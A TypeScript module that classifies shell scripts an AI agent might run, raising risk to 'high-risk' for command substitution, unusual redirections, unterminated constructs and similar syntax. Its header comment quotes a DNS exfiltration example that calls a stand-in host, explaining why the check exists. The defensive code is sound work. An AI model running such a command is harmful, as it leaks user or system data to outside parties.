// The deterministic risk floor for text that would reach a shell (DESIGN §2, the reference's
// findDeterministicHighRisk). Syntax only, no program names: an unterminated quote or
// construct, command or process substitution, a redirection other than to /dev/null or a
// descriptor duplication, or a command word built from an expansion makes the script
// `high-risk`, whatever was declared or any later judgement says. The floor never lowers a
// level: `dig $(whoami).example.com` reads as harmless to a classifier and exfiltrates via DNS.
//
// Two readers must both pass: sh-syntax (mvdan/sh compiled to WebAssembly, a real bash parser)
// decides whether the text parses and checks the top-level redirections it exposes; its AST does
// not expose nested command nodes, so shell-scan.ts walks the full structure for the rest.
import { readFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { getProcessor, LangVariant, type File as ShFile } from "sh-syntax";
import type { Risk } from "../policy/tools.ts";
import { type ShellRedirect, type ShellWord, scanShell } from "./shell-scan.ts";

export type ShellRiskFloor = {
  /** The declared level, raised to `high-risk` when any reason was found; never lower. */
  readonly level: Risk;
  /** Why the floor applies; empty when it does not. */
  readonly reasons: readonly string[];
};

export const maxScriptChars = 64 * 1024;

const riskOrder: readonly Risk[] = ["read-only", "low-risk", "high-risk", "unknown"];

/** The higher of two levels (`unknown` is above `high-risk`). */
export function raiseRisk(a: Risk, b: Risk): Risk {
  return riskOrder.indexOf(a) >= riskOrder.indexOf(b) ? a : b;
}

/** The WebAssembly global, typed by hand: the project's lib settings do not include its types. */
type WasmApi = {
  compile(bytes: Uint8Array): Promise<object>;
  instantiate(module: object, imports: object): Promise<object>;
};
const wasmApi = (globalThis as unknown as { WebAssembly: WasmApi }).WebAssembly;

let processorPromise: Promise<ReturnType<typeof getProcessor>> | undefined;

/** Compiles the parser's WebAssembly once; each parse gets a fresh, cheap instance. */
function loadParser(): Promise<ReturnType<typeof getProcessor>> {
  processorPromise ??= (async () => {
    const wasmPath = createRequire(import.meta.url).resolve("sh-syntax/main.wasm");
    const module = await wasmApi.compile(await readFile(wasmPath));
    // A one-argument function is called with the imports and must return the instance.
    return getProcessor(((imports: object) => wasmApi.instantiate(module, imports)) as Parameters<
      typeof getProcessor
    >[0]);
  })();
  return processorPromise;
}

async function parseBash(
  script: string,
): Promise<{ file: ShFile } | { error: string; incomplete: boolean }> {
  const processor = await loadParser();
  try {
    const file = await processor(script, { variant: LangVariant.LangBash, keepComments: false });
    return { file };
  } catch (error) {
    const e = error as { Text?: unknown; message?: unknown; Incomplete?: unknown };
    const text = typeof e.Text === "string" ? e.Text : String(e.message ?? "parse error");
    return { error: text.slice(0, 200), incomplete: e.Incomplete === true };
  }
}

const fileRedirectOps = new Set([">", ">>", ">|", "&>", "&>>", "<", "<>"]);
const duplicateOps = new Set([">&", "<&"]);

function isHarmlessRedirect(op: string, target: string | undefined, plainTarget: boolean): boolean {
  if (target === undefined || !plainTarget) return false;
  if (fileRedirectOps.has(op)) return target === "/dev/null";
  if (duplicateOps.has(op)) return /^([0-9]+|-)$/.test(target);
  return false;
}

function describeRedirect(redirect: ShellRedirect): string {
  const target = redirect.target?.text ?? "";
  return `${redirect.fd ?? ""}${redirect.op}${target.length > 60 ? `${target.slice(0, 60)}…` : target}`;
}

function hasExpansion(word: ShellWord): boolean {
  return word.expansions.length > 0;
}

/**
 * The floor for `script` against the `declared` level. Async because the parser is WebAssembly;
 * never throws.
 */
export async function assessShellRisk(script: string, declared: Risk): Promise<ShellRiskFloor> {
  const reasons = new Set<string>();
  if (script.length > maxScriptChars) {
    reasons.add(`longer than ${maxScriptChars} characters, too long to analyse`);
    return { level: raiseRisk(declared, "high-risk"), reasons: [...reasons] };
  }
  const parsed = await parseBash(script);
  if ("error" in parsed) {
    reasons.add(
      parsed.incomplete || /without closing|unclosed|must end|reached EOF/i.test(parsed.error)
        ? `unterminated quote or construct (${parsed.error})`
        : `does not parse as bash (${parsed.error})`,
    );
  } else {
    for (const statement of parsed.file.Stmts) {
      for (const redirect of statement.Redirs) {
        const target = redirect.Word?.Lit;
        const plain = redirect.Word !== null && redirect.Word.Parts.length <= 1 && target !== "";
        if (redirect.Hdoc !== null || !isHarmlessRedirect(redirect.Op, target, plain)) {
          reasons.add(`redirection ${redirect.N?.Value ?? ""}${redirect.Op}${target ?? ""}`);
        }
      }
    }
  }

  const scan = scanShell(script);
  for (const problem of scan.problems) reasons.add(problem);
  if (scan.expansions.has("command")) reasons.add("command substitution");
  if (scan.expansions.has("process")) reasons.add("process substitution");
  for (const command of scan.commands) {
    for (const redirect of command.redirects) {
      const target = redirect.target;
      const plain = target !== undefined && !hasExpansion(target);
      if (!isHarmlessRedirect(redirect.op, target?.text, plain)) {
        reasons.add(`redirection ${describeRedirect(redirect)}`);
      }
    }
    const first = command.words[0];
    if (command.keyword === undefined && first !== undefined && hasExpansion(first)) {
      reasons.add(`command word built from an expansion (${first.text.slice(0, 60)})`);
    }
  }
  return {
    level: reasons.size > 0 ? raiseRisk(declared, "high-risk") : declared,
    reasons: [...reasons],
  };
}
